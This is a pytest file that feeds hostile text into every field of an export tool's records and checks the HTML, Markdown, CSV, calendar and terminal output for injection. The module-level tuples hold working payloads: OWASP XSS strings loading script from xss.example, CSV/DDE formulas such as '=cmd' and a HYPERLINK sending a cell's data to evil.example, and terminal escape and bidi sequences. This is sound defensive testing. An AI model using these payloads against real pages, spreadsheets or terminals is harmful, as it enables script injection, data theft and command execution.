"""Hostile text in every text field of every record kind, in every document and form.

Sources: OWASP Cheat Sheet Series, 'XSS Filter Evasion', and OWASP, 'CSV Injection' (strings from
memory); CommonMark 0.31.2 for what is markup; ECMA-48 5th edition and CWE-150 for the terminal.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import re
import sys
from collections import Counter
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from icalendar import Calendar
from markdown_it import MarkdownIt

from binder.edit import Editor
from binder.file import BinderFile, create
from binder.intake import json_form
from binder.read import read_where
from binder.records.catalog import KINDS
from binder.records.fields import Type
from exporters.documents import DOCUMENTS
from exporters.export import render
from tests.binder.generated import base_binder
from tests.exporters.conftest import TODAY
from tests.exporters.reading import fragment, page
from tests.pseudo_terminal import PseudoTerminal
from tests.system import needs

if TYPE_CHECKING:
    from playwright.sync_api import Browser

XSS = (
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/"
    "+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "</style></script><svg onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '"; background: url(https://xss.example/x); "',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/s.html"></OBJECT>',
    "<details open ontoggle=alert(1)>",
    "'\"><b id=x onclick=alert(1)>",
)
MARKDOWN = (
    "[x](javascript:alert(1))", "[x]: https://xss.example 'x'", "![x](https://xss.example/x.png)",
    "<https://xss.example/auto>", "<div>block</div>", "| a | b |", "````", "~~~ html", "# heading",
    "### heading ###", "====", "----", "* * *", "> quote", "- item", "1) item", "    code",
    "**bold** __bold__ ~~gone~~ `code`", "&lt;b&gt;&#x3c;i&#x3e;", "trailing\\", "<!-- comment",
    "<?php", "<![CDATA[",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Error\")", "+1+2", "-1+2",
    "@SUM(1+2)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"1\")", "=1+2\";=1+2", "＝1+2",
)  # fmt: skip
TERMINAL = (
    "a\x1b]0;owned\x07", "a\x1b]52;c;cHduZWQ=\x07", "a\x1b[2J\x1b[H", "a\x9b31m",
    "a\x9d0;owned\x9c",
    "a\x1bP+q\x1b\\", "a\rowned", "a\b\b\bowned", "a\u202eowned\u202c", "a\u2066owned\u2069",
    "a\u200b\u2028b", "a\r\nBEGIN:VEVENT\r\nSUMMARY:owned", "a\x85b",
)  # fmt: skip
HOSTILE = (*XSS, *MARKDOWN, *FORMULAS, *TERMINAL)
NOT_FREE = ("sha256", "currency", "body")  # their form is checked, or they are our own JSON


def binder_of(path: Path, texts: Iterator[str]) -> BinderFile:
    """The base binder with the next of these texts in every field of free text.

    What a record is named by begins with the text and ends so that no two are alike. So does the
    name of who wrote it all down, and what they say of it.
    """
    data = base_binder()
    for port in data["ports"][4:]:
        port["hardware"] = data["hardware"][1]["identifier"]
    for number, switch in enumerate(data["hardware"]):
        switch["form"] = ("switch", "patch panel")[number]
    for touch in data["touches"]:
        touch["how"] = "concerned"
    renamed: dict[str, str] = {}
    for kind in KINDS:
        for record in data[kind.plural]:
            if "installed" in kind.field("status").choices:
                record["status"] = "installed"
            for field in kind.all_fields:
                if field.type not in (Type.TEXT, Type.LINES) or field.name in NOT_FREE:
                    continue
                text = next(texts)
                if field.type is Type.TEXT:
                    text = text.replace("\n", " ")
                if field.name not in kind.named_by:
                    record[field.name] = text
                elif kind.named_by == (field.name,):
                    old = record[field.name]
                    renamed[old] = f"{text} {kind.name} {old[-1]}"
    with_names: dict[str, Any] = _renamed(data, renamed)
    binder = create(path, "")
    json_form.load(binder, with_names, next(texts))
    with Editor(binder, next(texts)).step(next(texts)) as step:
        for kind in KINDS:
            for part in kind.named_by[1:]:
                if kind.field(part).type is Type.TEXT:
                    for number, record in enumerate(read_where(binder, kind)):
                        text = (
                            next(texts)
                            .replace("\n", " ")
                            .replace(kind.separator.strip() or ":", "-")
                        )
                        step.change(record.id, {part: f"{text} {number}"})
    return binder


def _renamed(part: Any, renamed: Mapping[str, str]) -> Any:
    if isinstance(part, dict):
        return {key: _renamed(value, renamed) for key, value in part.items()}
    if isinstance(part, list):
        return [_renamed(each, renamed) for each in part]
    if not isinstance(part, str) or part in renamed:
        return renamed.get(part, part)
    for old, new in renamed.items():  # a port is called by its hardware's name, and so on
        if part.startswith(old) and part[len(old) : len(old) + 1] in (":", " "):
            return new + part[len(old) :]
    return part


Files = dict[tuple[str, str], dict[str, str | bytes]]


def rendered(binder: BinderFile) -> Files:
    return {
        (name, form): render(binder, name, form=form, today=TODAY)
        for name, kind in DOCUMENTS.items()
        for form in kind.forms or ("html", "markdown")
    }


@pytest.fixture(scope="module", params=range(0, len(HOSTILE), 18))
def hostile_binder(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[BinderFile]:
    """The texts in turn, several times, each time beginning with another one."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.binder"
    turned = HOSTILE[request.param :] + HOSTILE[: request.param]
    with binder_of(path, itertools.cycle(turned)) as binder:
        yield binder


@pytest.fixture(scope="module")
def hostile(hostile_binder: BinderFile) -> Files:
    return rendered(hostile_binder)


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Files:
    """The same documents of the same binder with plain words."""
    path = tmp_path_factory.mktemp("harmless") / "harmless.binder"
    with binder_of(path, (f"plain {n}" for n in itertools.count())) as binder:
        return rendered(binder)


def of_form(files: Files, form: str) -> dict[str, str]:
    return {
        f"{document} {at}": str(text)
        for (document, made), held in files.items()
        if made == form
        for at, text in enumerate(held.values())
    }


def test_every_text_is_in_some_field_of_the_binder(hostile_binder: BinderFile) -> None:
    held = str(json_form.dump(hostile_binder))
    one_line = (text.replace("\r\n", "\r ") for text in HOSTILE)
    assert [text for text in one_line if repr(text)[1:-1] not in held] == []


# Pages. -----------------------------------------------------------------------------------

# What the words of a record may alter: the lines of a text, a code that is too fine to print.
FLOWING = {"p", "br", "path", "svg", "span", "strong", "code", "text", "title", "tspan", "wbr"}
FILLING = {"door sheet": ("tr", "td"), "labels": ("b",)}


def elements(html: Any, name: str) -> Counter[str]:
    """How many of each, but for what is there as often as there is room for it.

    Empty rows fill the page of the door sheet; an identifier is repeated on a cord's label.
    """
    found = (str(e.tag) for e in html.iter() if isinstance(e.tag, str))
    filling = next((FILLING[document] for document in FILLING if name.startswith(document)), ())
    return Counter(tag for tag in found if tag not in FLOWING and tag not in filling)


def test_a_page_has_the_elements_it_has_with_plain_words(hostile: Files, harmless: Files) -> None:
    plain = of_form(harmless, "html")
    for name, text in of_form(hostile, "html").items():
        made, expected = page(text), elements(page(plain[name]), name)
        for element in made.iter():
            assert not [key for key in element.attrib if key.lower().startswith("on")], name
            assert element.attrib.get("href", "#").startswith("#"), name
            assert element.attrib.get("src", "data:").startswith("data:"), name
        assert elements(made, name) == expected, name


def test_markdown_renders_to_what_it_renders_to_with_plain_words(
    hostile: Files, harmless: Files
) -> None:
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    plain = of_form(harmless, "markdown")
    texts = of_form(hostile, "markdown")
    assert list(texts) == list(plain)
    for name, text in texts.items():
        made = fragment(renderer.render(text))
        assert elements(made, name) == elements(fragment(renderer.render(plain[name])), name), name


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    chromium = needs("chromium", "chromium-browser")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield browser
        browser.close()


def test_in_a_browser_nothing_runs_and_nothing_is_asked_for(
    browser: Browser, hostile: Files, tmp_path: Path
) -> None:
    for name, text in of_form(hostile, "html").items():
        path = tmp_path / "page.html"
        path.write_text(text, encoding="utf-8")
        told: list[str] = []
        opened = browser.new_page()
        opened.on("request", lambda request, told=told: told.append(request.url))
        opened.on("dialog", lambda dialog, told=told: told.append(dialog.message))
        opened.on("console", lambda message, told=told: told.append(message.text))
        opened.on("pageerror", lambda error, told=told: told.append(str(error)))
        opened.goto(path.as_uri())
        for kind in ("mouseover", "click", "error", "load", "toggle"):
            opened.evaluate(
                "kind => document.querySelectorAll('main *').forEach("
                "e => e.dispatchEvent(new Event(kind, {bubbles: false})))", kind
            )  # fmt: skip
        assert [each for each in told if each != path.as_uri()] == [], name
        assert opened.evaluate("document.documentElement.scrollWidth") <= 1280, name
        opened.close()


# Tables and calendar. ---------------------------------------------------------------------

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_no_cell_of_a_table_is_a_formula_and_none_is_more_or_fewer(
    hostile: Files, harmless: Files
) -> None:
    plain = of_form(harmless, "csv")
    for name, text in of_form(hostile, "csv").items():
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))
        expected = list(csv.reader(io.StringIO(plain[name].removeprefix("\ufeff"), newline="")))
        assert [len(row) for row in rows] == [len(row) for row in expected], name
        formulas = [cell for row in rows for cell in row if cell.startswith(STARTS)]
        assert formulas == [], name


def test_the_calendar_has_the_entries_and_properties_it_has_with_plain_words(
    hostile: Files, harmless: Files
) -> None:
    def read(files: Files) -> list[tuple[str, list[str]]]:
        (made,) = files["calendar", "ics"].values()
        assert isinstance(made, bytes)
        return sorted((each.name, sorted(each)) for each in Calendar.from_ical(made).walk())

    assert read(hostile) == read(harmless)


# Terminal. --------------------------------------------------------------------------------

_COLOUR = re.compile(r"\x1b\[[0-9;]*m")
_ACTIVE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u2028\u202a-\u202e\u2066-\u2069]")


_RUN = """
import json, sys
from tui.main import run
for words in json.loads(sys.argv[1]):
    try:
        run(words)
    except SystemExit:
        pass
print("THE END")
"""


def test_no_escape_reaches_the_terminal(hostile_binder: BinderFile, tmp_path: Path) -> None:
    """Of what is not our own colour; every kind listed, and of each a record, by its name."""
    rows = hostile_binder.connection.execute("SELECT kind, min(name) FROM record GROUP BY kind")
    named = dict(tuple(row) for row in rows)
    path = str(hostile_binder.path)
    commands = [["show", path]]
    commands += [["show", path, kind.plural] for kind in KINDS]
    commands += [["show", path, kind, name] for kind, name in named.items()]
    commands += [
        [word, path]
        for word in ("closeout", "log", "history", "topology", "headroom", "attach", "review")
    ]
    commands += [[word, path, "hardware", named["hardware"]] for word in ("trace", "impact")]
    commands += [["trouble", path, kind, named[kind]] for kind in ("circuit", "hardware", "space")]
    commands += [["find", path, word] for word in ("owned", "alert", "xss", "=1")]
    environment = dict(os.environ, TERM="xterm-256color", BINDER_WHO="M. Osei",
                       XDG_STATE_HOME=str(tmp_path))  # fmt: skip
    argv = [sys.executable, "-c", _RUN, json.dumps(commands)]
    terminal = PseudoTerminal(argv, environment, columns=200, lines=50)
    terminal.wait_for("THE END")
    said = _COLOUR.sub("", terminal.history.decode())
    assert "\u241b" in said  # an escape, shown
    active = sorted({said[max(0, f.start() - 40) : f.end() + 20] for f in _ACTIVE.finditer(said)})
    assert active == []
    assert len(said) > 20_000
